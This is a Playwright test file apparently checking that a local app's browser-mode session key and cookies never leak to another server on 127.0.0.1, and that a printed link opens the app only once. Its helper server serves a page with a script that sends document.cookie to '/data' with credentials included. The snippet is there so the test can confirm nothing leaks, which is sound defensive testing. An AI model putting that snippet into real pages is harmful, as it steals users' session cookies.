// Browser mode's key (issue 12): another server on 127.0.0.1 must never receive it, and the link
// `serve` prints opens the app once. A second plain server on another port records every request.
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { linkKeyIn, SESSION_KEY_STORE } from '../../shared/browserKey';
import { expect, test } from './fixtures';

interface Received {
  url: string;
  headers: IncomingHttpHeaders;
}

/** Another local server, as any program on the shop PC may run one: it records all it is sent. */
async function startOtherServer(): Promise<{ origin: string; received: Received[]; close(): Promise<void> }> {
  const received: Received[] = [];
  const server: Server = createServer((req, res) => {
    received.push({ url: req.url ?? '', headers: req.headers });
    if (req.url === '/page') {
      // A page of its own that loads an image and fetches from its server, with whatever the browser adds.
      res.writeHead(200, { 'content-type': 'text/html' });
      res.end(`<!doctype html><title>other</title><img src="/pixel.png" alt="">
<script>fetch('/data?cookie=' + encodeURIComponent(document.cookie), { credentials: 'include' }).then(() => { document.title = 'done'; });</script>`);
      return;
    }
    res.writeHead(req.url === '/pixel.png' || req.url?.startsWith('/data') ? 200 : 404, { 'content-type': 'text/plain' });
    res.end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

test('the key never reaches another local server, sets no cookie and leaves the address bar', async ({ browser, served }) => {
  const other = await startOtherServer();
  try {
    const linkKey = linkKeyIn(new URL(served.url).hash) ?? '';
    expect(linkKey).toMatch(/^[\w-]{32}$/);
    const context = await browser.newContext();
    const page = await context.newPage();
    await page.goto(served.url);
    await page.getByRole('navigation', { name: 'Main' }).getByRole('link', { name: 'Journal' }).click();
    await expect(page.getByRole('heading', { name: 'Journal', level: 1 })).toBeVisible();
    await expect(page.getByText(/^0 incidents$/)).toBeVisible();

    const sessionKey = (await page.evaluate((store) => sessionStorage.getItem(store), SESSION_KEY_STORE)) ?? '';
    expect(sessionKey).toMatch(/^[\w-]{32}$/);
    expect(sessionKey).not.toBe(linkKey);
    expect(page.url()).not.toContain(linkKey);
    expect(page.url()).not.toContain('key=');
    expect(await page.evaluate(() => document.cookie)).toBe('');
    // document.cookie hides HttpOnly cookies; the browser's own jar shows them all.
    expect(await context.cookies()).toEqual([]);

    // A reload of the tab keeps working: the key is in the tab's sessionStorage.
    await page.reload();
    await expect(page.getByRole('heading', { name: 'Journal', level: 1 })).toBeVisible();

    // The app's own page cannot even send to another server: its CSP allows its own origin only.
    await page.evaluate(async (origin) => {
      const img = document.createElement('img');
      img.src = `${origin}/from-app.png`;
      document.body.append(img);
      await fetch(`${origin}/from-app`, { mode: 'no-cors', credentials: 'include' }).catch(() => undefined);
    }, other.origin);

    // The tab goes there, as a person following a link would, and that page asks its server twice.
    await page.evaluate((url) => window.location.assign(url), `${other.origin}/page`);
    await expect(page).toHaveTitle('done');
    const paths = other.received.map((r) => r.url);
    expect(paths).toEqual(expect.arrayContaining(['/page', '/pixel.png', '/data?cookie=']));
    expect(paths.filter((p) => p.startsWith('/from-app'))).toEqual([]);
    for (const r of other.received) {
      const seen = JSON.stringify(r);
      expect(seen, r.url).not.toContain(linkKey);
      expect(seen, r.url).not.toContain(sessionKey);
      expect(r.headers.cookie, r.url).toBeUndefined();
      expect(r.headers.authorization, r.url).toBeUndefined();
    }
    // No Referer names the app's address either.
    expect(other.received.find((r) => r.url === '/page')?.headers.referer).toBeUndefined();

    // Back in the app, history holds no key.
    await page.goBack();
    await expect(page.getByRole('heading', { name: 'Journal', level: 1 })).toBeVisible();
    expect(page.url()).not.toContain('key=');
    await context.close();
  } finally {
    await other.close();
  }
});

test('the printed link opens the app once; serve then prints a fresh one that opens it once more', async ({ browser, served }) => {
  const first = await browser.newContext();
  await (await first.newPage()).goto(served.url);
  await expect.poll(() => served.links().length).toBe(2);
  const fresh = served.links()[1]!;
  expect(fresh).not.toBe(served.url);

  // The same link again, in a new window: a sentence instead of the app.
  const second = await browser.newContext();
  const page = await second.newPage();
  await page.goto(served.url);
  const refused = page.getByRole('alert');
  await expect(refused).toContainText('This link was already used. makegood serve printed a new one in its window; open that.');
  await expect(page.getByRole('navigation', { name: 'Main' })).toHaveCount(0);
  expect(await page.evaluate((store) => sessionStorage.getItem(store), SESSION_KEY_STORE)).toBeNull();
  expect(page.url()).not.toContain('key=');

  // The fresh link, pasted into that same tab, opens the app there.
  await page.goto(fresh);
  await expect(page.getByRole('heading', { name: 'Home', level: 1 })).toBeVisible();
  expect(page.url()).not.toContain('key=');
  await expect.poll(() => served.links().length).toBe(3);
  expect(new Set(served.links()).size).toBe(3);
  await first.close();
  await second.close();
});
